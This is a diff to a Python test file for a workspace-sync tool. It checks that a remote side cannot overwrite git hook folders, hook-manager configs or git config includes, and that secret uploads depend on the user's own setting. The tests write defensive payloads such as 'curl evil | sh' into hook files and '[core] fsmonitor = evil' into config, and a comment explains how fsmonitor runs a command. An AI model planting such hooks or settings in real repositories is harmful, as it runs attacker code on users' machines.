@@ -102,6 +102,58 @@ def test_configured_protected_paths_are_protected_too(tmp_path: Path) -> None:
     assert not (ws / "deploy" / "new").exists()
 
 
+@pytest.mark.parametrize("hooks_path", [".husky", "./tools/hooks/", "ABSOLUTE"])
+def test_the_folder_git_runs_hooks_from_is_protected(tmp_path: Path, hooks_path: str,
+                                                     tmp_home: Path) -> None:
+    # husky, lefthook and friends set core.hooksPath to a tracked folder: the next local
+    # `git commit` runs what is there, exactly as it would run .git/hooks/pre-commit.
+    top = tmp_path / "repo"
+    subprocess.run(["git", "init", "-q", str(top)], check=True)
+    folder = hooks_path.removeprefix("./").rstrip("/")
+    if hooks_path == "ABSOLUTE":
+        folder, hooks_path = "hk", str(top / "hk")
+    (top / ".git" / "config").write_text(f'[core]\n\thooksPath = "{hooks_path}"\n')
+    ws = make_workspace(top, files={f"{folder}/pre-commit": "lint\n", "app.py": "v = 1\n"})
+    out = run(ws, f"echo 'curl evil | sh' > {folder}/pre-commit; "
+                  f"echo evil > {folder}/post-checkout; echo 'v = 2' > app.py")
+    assert out.returncode == 0, out.stderr
+    assert (ws / folder / "pre-commit").read_text() == "lint\n"
+    assert not (ws / folder / "post-checkout").exists()
+    assert (ws / "app.py").read_text() == "v = 2\n"
+
+
+@pytest.mark.parametrize(("section", "key", "value", "target"), [
+    ("include", "path", "../shared.gitconfig", "shared.gitconfig"),  # relative to .git/
+    ('includeIf "gitdir:~/"', "path", "../conf/git.cfg", "conf/git.cfg"),
+    ("core", "excludesFile", "ci/ignore", "ci/ignore"),  # relative to the work tree
+    ("core", "attributesFile", "ci/attrs", "ci/attrs"),
+])
+def test_files_git_config_points_at_are_protected(tmp_path: Path, section: str, key: str,
+                                                  value: str, target: str,
+                                                  tmp_home: Path) -> None:
+    # `git config include.path ../.gitconfig` shares settings through the tree; a remote
+    # that adds `core.fsmonitor = <cmd>` there runs <cmd> at the next local `git status`.
+    top = tmp_path / "repo"
+    subprocess.run(["git", "init", "-q", str(top)], check=True)
+    (top / ".git" / "config").write_text(f"[{section}]\n\t{key} = {value}\n")
+    ws = make_workspace(top, files={target: "# mine\n", "app.py": "v = 1\n"})
+    out = run(ws, f"echo '[core] fsmonitor = evil' >> {target}; echo 'v = 2' > app.py")
+    assert out.returncode == 0, out.stderr
+    assert (ws / target).read_text() == "# mine\n"
+    assert (ws / "app.py").read_text() == "v = 2\n"
+
+
+@pytest.mark.parametrize("rel", [".husky/pre-commit", ".pre-commit-config.yaml",
+                                 "lefthook.yml", "sub/.lefthook-local.yaml", ".lfsconfig"])
+def test_what_git_hook_managers_run_is_protected(tmp_path: Path, rel: str) -> None:
+    # The next local `git commit` (or push, for git-lfs's server) obeys these files.
+    ws = make_workspace(tmp_path / "ws", files={rel: "mine\n", "app.py": "v = 1\n"})
+    out = run(ws, f"echo 'curl evil | sh' > {rel}; echo 'v = 2' > app.py")
+    assert out.returncode == 0, out.stderr
+    assert (ws / rel).read_text() == "mine\n"
+    assert (ws / "app.py").read_text() == "v = 2\n"
+
+
 def test_a_remote_symlink_into_a_protected_path_is_refused(tmp_path: Path) -> None:
     ws = make_workspace(tmp_path / "ws", files={"run.sh": "echo hi\n", "AGENTS.md": "a"})
     (ws / ".git" / "hooks").mkdir(parents=True)
@@ -255,11 +307,14 @@ def test_every_git_ignore_source_and_secret_files_stay_on_the_laptop(
 
 
 def test_secret_files_go_up_only_when_allowed_by_name(tmp_path: Path) -> None:
-    ws = make_workspace(tmp_path / "ws", 'upload_secrets = [".env.test", "certs/dev.pem"]\n',
-                        {name: name for name in (".env.test", "certs/dev.pem", "x/.env.test",
-                                                 "other.pem", ".env")})
-    assert remote_files(ws) == {".env.test", "certs/dev.pem", "x/.env.test",
-                                ".modal-offload.toml"}
+    # The user's own setting (environment or user config): a workspace file cannot
+    # (tests/test_cloned_workspace_config.py).
+    ws = make_workspace(tmp_path / "ws", files={
+        name: name for name in (".env.test", "certs/dev.pem", "x/.env.test", "other.pem",
+                                ".env")})
+    allowed = {"MODAL_OFFLOAD_UPLOAD_SECRETS": ".env.test certs/dev.pem"}
+    assert remote_files(ws, allowed) == {".env.test", "certs/dev.pem", "x/.env.test",
+                                         ".modal-offload.toml"}
 
 
 def test_a_remote_cannot_create_secret_looking_files_here(tmp_path: Path) -> None:
